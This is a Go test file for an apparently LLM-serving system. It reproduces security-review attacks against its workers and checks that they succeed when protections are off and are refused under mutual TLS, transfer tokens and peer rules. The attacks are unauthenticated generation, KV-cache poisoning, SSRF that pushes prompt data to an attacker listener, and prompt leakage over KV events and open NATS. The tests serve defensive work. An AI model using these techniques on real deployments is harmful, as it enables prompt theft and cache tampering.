@@ -1,0 +1,580 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"io"
+	"net"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/nats-io/nats.go"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials"
+
+	"github.com/tandemllm/tandem/authn"
+	"github.com/tandemllm/tandem/discovery"
+	"github.com/tandemllm/tandem/engine"
+	"github.com/tandemllm/tandem/engine/mocker"
+	"github.com/tandemllm/tandem/kvevents"
+	"github.com/tandemllm/tandem/kvtransfer"
+	"github.com/tandemllm/tandem/requestplane"
+	"github.com/tandemllm/tandem/tokenizer"
+)
+
+// The attacker's own address: a second address on the loopback interface
+// (Linux routes all of 127.0.0.0/8 to lo), so every connection below
+// crosses from another address to the workers' 127.0.0.2 listeners, as a
+// stranger's would, rather than from the workers' own. A network
+// namespace (TestDisaggSlowLink's kind) would be closer to another host;
+// this needs no root, so it runs in every `go test ./...`.
+const (
+	victimHost   = "127.0.0.2"
+	attackerHost = "127.0.0.3"
+)
+
+func attackerDialer() *net.Dialer {
+	return &net.Dialer{Timeout: 3 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackerHost)}}
+}
+
+// attackNet is where the attacks run: the host the workers listen on, how
+// their processes start, and how the attacker (this test process) opens
+// sockets on its own host.
+type attackNet struct {
+	victimHost   string
+	attackerHost string
+	start        func(t *testing.T, name, args string) *osProc
+	dial         func(ctx context.Context, network, addr string) (net.Conn, error)
+	listen       func(network, addr string) (net.Listener, error)
+}
+
+// loopbackNet: workers on 127.0.0.2, the attacker on 127.0.0.3.
+func loopbackNet() attackNet {
+	return attackNet{
+		victimHost: victimHost, attackerHost: attackerHost,
+		start:  func(t *testing.T, name, args string) *osProc { return startProc(t, name, args, workerReady) },
+		dial:   attackerDialer().DialContext,
+		listen: net.Listen,
+	}
+}
+
+// TestAttacks runs each finding of the security review against real
+// worker processes, first with the protections off (the attack works),
+// then on (it is refused). Protections: mutual TLS on the request and KV
+// transfer planes (--mtls-*), transfer tokens (always on) and the
+// prefill worker's published-peers rule (--transfer-peers discovery, the
+// default).
+func TestAttacks(t *testing.T) {
+	if testing.Short() {
+		t.Skip("starts 4 processes")
+	}
+	if secure.on {
+		t.Skip("runs its own open and protected configurations")
+	}
+	if l, err := net.Listen("tcp", attackerHost+":0"); err != nil {
+		t.Skipf("no second loopback address: %v", err)
+	} else {
+		l.Close()
+	}
+	runAttacks(t, loopbackNet())
+}
+
+// runAttacks is TestAttacks on an attackNet.
+func runAttacks(t *testing.T, an attackNet) {
+	certs := t.TempDir()
+	if _, err := authn.Init(certs, 1, 1, nil, time.Hour); err != nil {
+		t.Fatal(err)
+	}
+	mtlsFlags := " --mtls-ca " + filepath.Join(certs, "ca.crt") + " --mtls-cert " + filepath.Join(certs, "worker-1.crt") +
+		" --mtls-key " + filepath.Join(certs, "worker-1.key")
+	frontendID, err := authn.Load(authn.Files{CA: filepath.Join(certs, "ca.crt"), Cert: filepath.Join(certs, "frontend-1.crt"), Key: filepath.Join(certs, "frontend-1.key")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const bpt = 1024
+	victim := make([]engine.Token, 33) // two whole blocks and the last token
+	for i := range victim {
+		victim[i] = engine.Token(100 + i)
+	}
+	for _, tc := range []struct {
+		name      string
+		protected bool
+	}{{"open", false}, {"protected", true}} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			flags := " --discovery file --discovery-dir " + dir + " --speedup 100 --kv-bytes-per-token 1024 --deregister-delay 0s" +
+				" --rp-addr " + an.victimHost + ":0 --kv-transfer-addr " + an.victimHost + ":0"
+			if tc.protected {
+				flags += mtlsFlags
+			} else {
+				flags += " --transfer-peers any"
+			}
+			an.start(t, "d1", "worker --id d1 --role decode"+flags)
+			an.start(t, "p1", "worker --id p1 --role prefill"+flags)
+			dec, pre := readRecord(t, dir, "d1"), readRecord(t, dir, "p1")
+
+			// What a frontend sees of the decode worker's cache: in the
+			// protected run, over the frontend's own mTLS identity.
+			legit := []grpc.DialOption{grpc.WithContextDialer(func(ctx context.Context, a string) (net.Conn, error) {
+				return an.dial(ctx, "tcp", a)
+			})}
+			if tc.protected {
+				legit = append(legit, grpc.WithTransportCredentials(credentials.NewTLS(frontendID.Client(authn.RoleWorker))))
+			}
+			cachedOnDecode := func() int {
+				c, err := requestplane.Dial(dec.RequestPlane, legit...)
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer c.Close()
+				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+				defer cancel()
+				a, err := requestplane.NewSide(c, requestplane.SideDesc{ID: "d1"}).Assess(ctx, victim, 0)
+				if err != nil {
+					t.Fatal(err)
+				}
+				return a.CachedTokens
+			}
+			stranger := func(addr string) *requestplane.Client {
+				c, err := requestplane.Dial(addr, grpc.WithContextDialer(func(ctx context.Context, a string) (net.Conn, error) {
+					return an.dial(ctx, "tcp", a)
+				}))
+				if err != nil {
+					t.Fatal(err)
+				}
+				t.Cleanup(func() { _ = c.Close() })
+				return c
+			}
+
+			t.Run("work without the frontend", func(t *testing.T) {
+				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+				defer cancel()
+				st, err := stranger(dec.RequestPlane).Generate(ctx, &engine.Request{ID: "x", Prompt: []engine.Token{1, 2, 3}, MaxTokens: 4, IgnoreEOS: true})
+				n := 0
+				for err == nil {
+					var d engine.Delta
+					if d, err = st.Recv(); err == nil {
+						n += len(d.Tokens)
+					}
+				}
+				served := n > 0
+				if served == tc.protected {
+					t.Fatalf("a stranger's Generate: %d tokens (err %v); protected %v", n, err, tc.protected)
+				}
+			})
+
+			t.Run("KV-cache poisoning", func(t *testing.T) {
+				if got := cachedOnDecode(); got != 0 {
+					t.Fatalf("the fresh decode worker already caches %d tokens", got)
+				}
+				// The attacker computes the victim prefix's blocks on its own
+				// engine (garbage, as far as the victim is concerned), gets a
+				// token the way a frontend does, and pushes them.
+				eng, err := mocker.New(mocker.Config{Instant: true, KVBytesPerToken: bpt, KVCapacityTokens: 4096})
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer eng.Close()
+				drain(t, eng, victim)
+				n, err := kvtransfer.NewNode(kvtransfer.Config{ID: "p1", Port: eng, Timeout: 5 * time.Second,
+					Dial: an.dial})
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer n.Close()
+				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+				defer cancel()
+				tok, terr := requestplane.NewSide(stranger(dec.RequestPlane), requestplane.SideDesc{ID: "d1"}).TransferToken(ctx, "p1", victim[:32], 0)
+				_, serr := n.Send(ctx, kvtransfer.Peer{ID: "d1", Addr: dec.KVTransfer.Addr, Token: tok}, victim[:32], 0)
+				got := cachedOnDecode()
+				if tc.protected {
+					if got != 0 || serr == nil {
+						t.Fatalf("poisoned through mTLS: %d tokens cached (token %v, send %v)", got, terr, serr)
+					}
+					t.Logf("refused: token %v; send %v", terr, serr)
+					return
+				}
+				if got != 32 {
+					t.Fatalf("the open worker did not take the blocks: %d cached (token %v, send %v)", got, terr, serr)
+				}
+			})
+
+			t.Run("SSRF through Prefill", func(t *testing.T) {
+				// The prefill leg's blocks (and its prompt, in the Begin
+				// frame) would go to the stranger's listener.
+				lis, err := an.listen("tcp", an.attackerHost+":0")
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer lis.Close()
+				got := make(chan int64, 1)
+				go func() {
+					c, err := lis.Accept()
+					if err != nil {
+						got <- 0
+						return
+					}
+					defer c.Close()
+					var total int64
+					buf := make([]byte, 64<<10)
+					for {
+						_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
+						n, err := c.Read(buf)
+						total += int64(n)
+						if err != nil {
+							break
+						}
+					}
+					got <- total
+				}()
+				ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
+				defer cancel()
+				_, perr := requestplane.NewSide(stranger(pre.RequestPlane), requestplane.SideDesc{ID: "p1"}).PrefillAndSend(ctx,
+					&engine.Request{ID: "ssrf", Prompt: victim, MaxTokens: 1}, kvtransfer.Peer{ID: "victim", Addr: lis.Addr().String()}, 0)
+				lis.Close()
+				n := <-got
+				if tc.protected {
+					if n != 0 || perr == nil {
+						t.Fatalf("the prefill worker sent %d bytes to the stranger's address (err %v)", n, perr)
+					}
+					return
+				}
+				if n < 2*16*bpt {
+					t.Fatalf("the open prefill worker sent %d bytes (err %v)", n, perr)
+				}
+				t.Logf("open: the prefill worker pushed %d bytes of KV to an address of the caller's choosing", n)
+			})
+
+			t.Run("SSRF through Link", func(t *testing.T) {
+				lis, err := an.listen("tcp", an.attackerHost+":0")
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer lis.Close()
+				got := make(chan int64, 1)
+				go func() {
+					c, err := lis.Accept()
+					if err != nil {
+						got <- 0
+						return
+					}
+					defer c.Close()
+					_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+					// Answer the probe frames as a receiver would, counting bytes.
+					var total int64
+					hdr := make([]byte, 5)
+					for {
+						if _, err := io.ReadFull(c, hdr); err != nil {
+							break
+						}
+						size := int64(hdr[1]) | int64(hdr[2])<<8 | int64(hdr[3])<<16 | int64(hdr[4])<<24
+						m, _ := io.CopyN(io.Discard, c, size)
+						total += m
+						if _, err := c.Write([]byte{6, 4, 0, 0, 0, hdr[1], hdr[2], hdr[3], hdr[4]}); err != nil {
+							break
+						}
+					}
+					got <- total
+				}()
+				ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
+				defer cancel()
+				_, lerr := requestplane.NewSide(stranger(pre.RequestPlane), requestplane.SideDesc{ID: "p1"}).
+					LinkThroughput(ctx, kvtransfer.Peer{ID: "victim", Addr: lis.Addr().String()})
+				lis.Close()
+				bytes := <-got
+				if tc.protected {
+					if bytes != 0 || lerr == nil {
+						t.Fatalf("the prefill worker sent %d bytes to the stranger's address (err %v)", bytes, lerr)
+					}
+					return
+				}
+				if bytes < 1<<20 {
+					t.Fatalf("the open prefill worker sent %d bytes (err %v)", bytes, lerr)
+				}
+				t.Logf("open: the prefill worker sent %d bytes to an address of the caller's choosing", bytes)
+			})
+		})
+	}
+}
+
+// TestSSRFWithoutMTLS: the published-peers rule holds even on an
+// unauthenticated request plane: a prefill worker never dials an address
+// discovery did not publish, whoever asks.
+func TestSSRFWithoutMTLS(t *testing.T) {
+	if testing.Short() || secure.on {
+		t.Skip("starts a process")
+	}
+	dir := t.TempDir()
+	startProc(t, "p1", "worker --id p1 --role prefill --discovery file --discovery-dir "+dir+" --rp-addr 127.0.0.1:0 --deregister-delay 0s", workerReady)
+	pre := readRecord(t, dir, "p1")
+	lis, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer lis.Close()
+	accepted := make(chan bool, 1)
+	go func() {
+		c, err := lis.Accept()
+		if err == nil {
+			c.Close()
+		}
+		accepted <- err == nil
+	}()
+	c, err := requestplane.Dial(pre.RequestPlane)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	side := requestplane.NewSide(c, requestplane.SideDesc{ID: "p1"})
+	_, lerr := side.LinkThroughput(ctx, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()})
+	if kvtransfer.CodeOf(lerr) != kvtransfer.CodeRefusedPeer {
+		t.Fatalf("Link to an unpublished address: %v", lerr)
+	}
+	prompt := make([]engine.Token, 33)
+	_, perr := side.PrefillAndSend(ctx, &engine.Request{ID: "p", Prompt: prompt, MaxTokens: 1}, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()}, 0)
+	if kvtransfer.CodeOf(perr) != kvtransfer.CodeRefusedPeer {
+		t.Fatalf("Prefill to an unpublished address: %v", perr)
+	}
+	lis.Close()
+	if <-accepted {
+		t.Fatal("the prefill worker connected to an unpublished address")
+	}
+}
+
+func readRecord(t *testing.T, dir, id string) discovery.Record {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(dir, id+".json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var e struct {
+		Record discovery.Record `json:"record"`
+	}
+	if err := json.Unmarshal(b, &e); err != nil {
+		t.Fatal(err)
+	}
+	return e.Record
+}
+
+func drain(t *testing.T, e engine.Engine, p []engine.Token) {
+	t.Helper()
+	st, err := e.Generate(context.Background(), &engine.Request{Prompt: p, MaxTokens: 1, IgnoreEOS: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for {
+		if _, err := st.Recv(); err != nil {
+			return
+		}
+	}
+}
+
+// leakSink collects what a stranger subscribed to a worker's KV event
+// socket learns.
+type leakSink struct {
+	mu     sync.Mutex
+	stored int
+	tokens []engine.Token
+}
+
+func (l *leakSink) HandleBatch(_ uint64, b *kvevents.Batch) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	for _, e := range b.Events {
+		if e.Type == kvevents.TypeBlockStored {
+			l.stored++
+			l.tokens = append(l.tokens, e.TokenIDs...)
+		}
+	}
+}
+func (l *leakSink) HandleState(kvevents.StreamStatus) {}
+
+func (l *leakSink) snapshot() (int, []engine.Token) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.stored, slices.Clone(l.tokens)
+}
+
+// TestPromptLeakKVEvents: a stranger subscribed to a worker's KV event
+// socket reads another client's prompt from the token ids in the events;
+// with --kv-events-token-ids=false it gets block hashes only, and the
+// frontend's KV router still indexes the worker's cache from them.
+func TestPromptLeakKVEvents(t *testing.T) {
+	if testing.Short() || secure.on {
+		t.Skip("starts 2 processes")
+	}
+	model, err := tokenizer.Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const secret = "the vault passphrase is marmalade-tangerine-47"
+	for _, tc := range []struct {
+		name  string
+		flags string
+		leaks bool
+	}{{"token ids", "", true}, {"hashes only", " --kv-events-token-ids=false", false}} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			disc := " --discovery file --discovery-dir " + dir + " --lease-ttl 2s"
+			url := startProc(t, "frontend", "frontend --http-addr 127.0.0.1:0 --router-mode kv"+disc, frontendReady).line
+			startProc(t, "w1", "worker --id w1 --speedup 100 --deregister-delay 0s --kv-events-endpoint tcp://"+victimHost+":0"+tc.flags+disc, workerReady)
+			rec := readRecord(t, dir, "w1")
+			sink := &leakSink{}
+			sub, err := kvevents.NewSubscriber(kvevents.SubscriberConfig{Worker: "stranger", Endpoint: rec.KVEvents.Endpoint, Handler: sink})
+			if err != nil {
+				t.Fatal(err)
+			}
+			ctx, cancel := context.WithCancel(context.Background())
+			defer cancel()
+			go sub.Run(ctx)
+			deadline := time.Now().Add(20 * time.Second)
+			for !slices.Equal(healthWorkers(t, url), []string{"w1"}) {
+				if time.Now().After(deadline) {
+					t.Fatal("the frontend never saw the worker")
+				}
+				time.Sleep(50 * time.Millisecond)
+			}
+			time.Sleep(300 * time.Millisecond) // the stranger's and the router's subscriptions settle
+			prompt := strings.Repeat("Some context before the secret. ", 8) + secret + strings.Repeat(" And some after it.", 8)
+			for i := 0; i < 20; i++ {
+				completion(t, url, map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 2})
+				if n, _ := sink.snapshot(); n > 0 && metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total") > 0 {
+					break
+				}
+				time.Sleep(100 * time.Millisecond)
+			}
+			stored, toks := sink.snapshot()
+			if stored == 0 {
+				t.Fatal("the stranger received no BlockStored events at all")
+			}
+			leaked := strings.Contains(model.Tokenizer.Decode(toks), "marmalade-tangerine")
+			if leaked != tc.leaks {
+				t.Fatalf("prompt read from the events: %v (want %v); %d token ids", leaked, tc.leaks, len(toks))
+			}
+			if n := metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total"); n == 0 {
+				t.Fatal("the frontend's router indexed nothing from the worker's events")
+			}
+		})
+	}
+}
+
+// TestNATSStranger: an anonymous client of the frontend's embedded NATS
+// server subscribes to tandem.> and reads the KV events (token ids
+// included) and the routers' load messages; with a token and mutual TLS
+// it cannot connect, while frontend and worker still exchange events.
+// Load messages never carry the prompt, protected or not.
+func TestNATSStranger(t *testing.T) {
+	if testing.Short() || secure.on {
+		t.Skip("starts 2 processes")
+	}
+	certs := t.TempDir()
+	if _, err := authn.Init(certs, 1, 1, []string{victimHost}, time.Hour); err != nil {
+		t.Fatal(err)
+	}
+	tokFile := filepath.Join(certs, "nats-token")
+	if err := os.WriteFile(tokFile, []byte("nats-attack-test-token-0123456789\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	natsAuth := func(name string) string {
+		return " --nats-token-file " + tokFile + " --nats-tls-ca " + filepath.Join(certs, "ca.crt") +
+			" --nats-tls-cert " + filepath.Join(certs, name+".crt") + " --nats-tls-key " + filepath.Join(certs, name+".key")
+	}
+	model, err := tokenizer.Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const secret = "the vault passphrase is marmalade-tangerine-47"
+	prompt := strings.Repeat("Some context before the secret. ", 8) + secret + strings.Repeat(" And some after it.", 8)
+	secretIDs := model.Tokenizer.Encode("marmalade")
+	for _, tc := range []struct {
+		name      string
+		protected bool
+	}{{"open", false}, {"protected", true}} {
+		t.Run(tc.name, func(t *testing.T) {
+			l, err := net.Listen("tcp", victimHost+":0")
+			if err != nil {
+				t.Fatal(err)
+			}
+			natsAddr := l.Addr().String()
+			l.Close()
+			dir := t.TempDir()
+			disc := " --discovery file --discovery-dir " + dir + " --lease-ttl 2s"
+			feAuth, wAuth := "", ""
+			if tc.protected {
+				feAuth, wAuth = natsAuth("frontend-1"), natsAuth("worker-1")
+			}
+			url := startProc(t, "frontend", "frontend --http-addr 127.0.0.1:0 --router-mode kv --event-plane nats --nats embedded --nats-addr "+natsAddr+feAuth+disc, frontendReady).line
+			startProc(t, "w1", "worker --id w1 --speedup 100 --deregister-delay 0s --event-plane nats --nats nats://"+natsAddr+wAuth+disc, workerReady)
+			deadline := time.Now().Add(20 * time.Second)
+			for !slices.Equal(healthWorkers(t, url), []string{"w1"}) {
+				if time.Now().After(deadline) {
+					t.Fatal("the frontend never saw the worker")
+				}
+				time.Sleep(50 * time.Millisecond)
+			}
+			dialer := attackerDialer()
+			nc, err := nats.Connect("nats://"+natsAddr, nats.SetCustomDialer(dialer), nats.Timeout(3*time.Second))
+			if tc.protected {
+				if err == nil {
+					nc.Close()
+					t.Fatal("an anonymous client connected to the protected NATS")
+				}
+			} else if err != nil {
+				t.Fatalf("the open NATS refused an anonymous client: %v", err)
+			}
+			got := make(chan *nats.Msg, 1024)
+			if nc != nil {
+				defer nc.Close()
+				if _, err := nc.ChanSubscribe("tandem.>", got); err != nil {
+					t.Fatal(err)
+				}
+				_ = nc.Flush()
+			}
+			for i := 0; i < 20 && metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total") == 0; i++ {
+				completion(t, url, map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 2})
+				time.Sleep(100 * time.Millisecond)
+			}
+			if metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total") == 0 {
+				t.Fatal("the frontend received no KV events over NATS")
+			}
+			if tc.protected {
+				return
+			}
+			time.Sleep(200 * time.Millisecond)
+			var kv, load int
+			for len(got) > 0 {
+				m := <-got
+				switch {
+				case strings.HasPrefix(m.Subject, "tandem.kv."):
+					kv++
+				case strings.HasPrefix(m.Subject, "tandem.load."):
+					load++
+					if containsIDs(m.Data, secretIDs) {
+						t.Fatalf("a load message carries the prompt's token ids")
+					}
+				}
+			}
+			if kv == 0 || load == 0 {
+				t.Fatalf("the anonymous subscriber got %d KV and %d load messages", kv, load)
+			}
+			t.Logf("open: the anonymous subscriber read %d KV event and %d load messages", kv, load)
+		})
+	}
+}
+
+// containsIDs reports whether ids appear in b as consecutive u32 LE.
+func containsIDs(b []byte, ids []engine.Token) bool {
+	want := make([]byte, 0, 4*len(ids))
+	for _, id := range ids {
+		want = append(want, byte(id), byte(id>>8), byte(id>>16), byte(id>>24))
+	}
+	return len(want) > 0 && bytes.Contains(b, want)
+}
